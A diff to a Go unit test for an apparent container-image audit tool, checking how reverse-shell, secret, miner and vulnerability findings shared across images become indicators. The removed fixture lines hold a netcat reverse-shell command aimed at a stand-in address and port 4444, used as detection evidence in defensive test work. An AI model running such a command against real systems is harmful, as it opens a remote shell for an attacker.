@@ -67,15 +67,19 @@ func TestShared(t *testing.T) {
 	secret := func(layer int) Finding {
 		return finding("STRATA-SEC-001", audit.CategorySecret, audit.High, layer, "", "", "AKIA****")
 	}
+	withIndicators := func(f Finding, inds ...audit.Indicator) Finding { f.Indicators = inds; return f }
+	ip := audit.Indicator{Kind: audit.IndicatorIP, Value: "198.51.100.7"}
+	port := audit.Indicator{Kind: audit.IndicatorPort, Value: "4444"}
 	members := []Member{
 		// The implant file in base's layer 1, inherited by app; added again by other in layer 3.
-		member("base", []string{"a", "b"}, StatusScanned, finding("RS", audit.CategoryReverseShell, audit.Critical, 1, "/x", "f00d", "nc 198.51.100.7 4444")),
-		member("app", []string{"a", "b", "c"}, StatusScanned, finding("RS", audit.CategoryReverseShell, audit.Critical, 1, "/x", "f00d", "nc 198.51.100.7 4444")),
-		member("other", []string{"q", "r", "s", "t"}, StatusResumed, finding("RS", audit.CategoryReverseShell, audit.Critical, 3, "/y", "f00d", "nc 127.0.0.1 4444")),
+		member("base", []string{"a", "b"}, StatusScanned, withIndicators(finding("RS", audit.CategoryReverseShell, audit.Critical, 1, "/x", "f00d", "nc"), ip, port)),
+		member("app", []string{"a", "b", "c"}, StatusScanned, withIndicators(finding("RS", audit.CategoryReverseShell, audit.Critical, 1, "/x", "f00d", "nc"), ip, port)),
+		member("other", []string{"q", "r", "s", "t"}, StatusResumed, withIndicators(finding("RS", audit.CategoryReverseShell, audit.Critical, 3, "/y", "f00d", "nc"), port)),
 		// The same secret in the config of two images: the older introduced it.
 		member("young", []string{"m"}, StatusScanned, secret(-1)),
 		member("old", []string{"n"}, StatusScanned, secret(-1)),
-		// Seen once only, and known vulnerabilities: never shared indicators.
+		// Seen once only, and known vulnerabilities: never shared indicators. A finding whose
+		// category is a setting but whose labels say persistence can be an implant.
 		member("single", []string{"p"}, StatusScanned, finding("MINER", audit.CategoryMiner, audit.High, 0, "/m", "beef", ""),
 			finding("CVE-1", audit.CategoryVulnerability, audit.High, 0, "/lib", "cafe", "")),
 		member("single2", []string{"p2"}, StatusScanned, finding("CVE-1", audit.CategoryVulnerability, audit.High, 0, "/lib", "cafe", "")),
@@ -99,9 +103,13 @@ func TestShared(t *testing.T) {
 	if s := byKind[IndicatorFinding]; s.Value != "STRATA-SEC-001" || s.IntroducedBy != "old" || s.Layer != -1 || s.Inherited != 0 {
 		t.Errorf("config secret %+v: want introduced by the older image", s)
 	}
-	// The address: the loopback one in other's evidence is not an indicator.
-	if s := byKind[IndicatorIP]; s.Value != "198.51.100.7" || !slices.Equal(s.Images, []string{"app", "base"}) {
+	// The address the analyzers found in base's and app's copy; the port all three name is too
+	// little to tie images together.
+	if s := byKind[string(audit.IndicatorIP)]; s.Value != "198.51.100.7" || !slices.Equal(s.Images, []string{"app", "base"}) {
 		t.Errorf("address %+v", s)
+	}
+	if s, ok := byKind[string(audit.IndicatorPort)]; ok {
+		t.Errorf("a port is a shared indicator: %+v", s)
 	}
 }
 
